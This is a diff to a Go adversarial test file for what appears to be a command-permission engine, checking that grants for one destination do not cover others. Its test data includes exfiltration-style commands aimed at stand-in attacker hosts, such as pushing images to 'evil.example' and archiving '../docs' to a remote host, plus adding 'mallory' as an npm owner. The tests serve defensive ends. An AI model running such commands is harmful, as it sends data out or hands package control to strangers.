@@ -99,14 +99,14 @@ func TestAdversary_W13_SettingsOfOtherTools(t *testing.T) {
 func TestAdversary_W6_SessionGrantsForOtherMachines(t *testing.T) {
 	e := engine(t)
 	for seen, other := range map[string]string{
-		"docker push reg.example/app:1": "docker push evil.example/app:1", "docker push app:1": "docker push evil.example/app:1", "docker push o/app": "docker push localhost:5000/o/app",
+		"docker push reg.example/app:1": "docker push evil.example/app:1", "docker push r.example/app:1": "docker push r.example/app:2", "docker push app:1": "docker push evil.example/app:1", "docker push o/app": "docker push localhost:5000/o/app",
 		"docker tag a reg.example/a": "docker tag a evil.example/a", "podman pull reg.example/a": "podman pull evil.example/a",
 		"tar -czf out.tgz ../docs": "tar -czf evil.example:out.tgz ../docs", "tar xzf a.tgz": "tar xzf evil:a.tgz", "tar -cf out.tar ../docs": "tar -cf u@evil:out.tar ../docs",
 		"npm owner add alice pkg": "npm owner add mallory pkg",
 	} {
 		require.NotEqual(t, reachOf(t, e, lineCall(t, seen)).Subject, reachOf(t, e, lineCall(t, other)).Subject, other)
 	}
-	for seen, other := range map[string]string{"docker push reg.example/app:1": "docker push reg.example/app:2", "tar -czf a.tgz src": "tar -czf b.tgz src", "docker push o/app:1": "docker push o/app:2"} {
+	for seen, other := range map[string]string{"tar -czf a.tgz src": "tar -czf b.tgz src"} {
 		require.Equal(t, reachOf(t, e, lineCall(t, seen)).Subject, reachOf(t, e, lineCall(t, other)).Subject, other)
 	}
 }
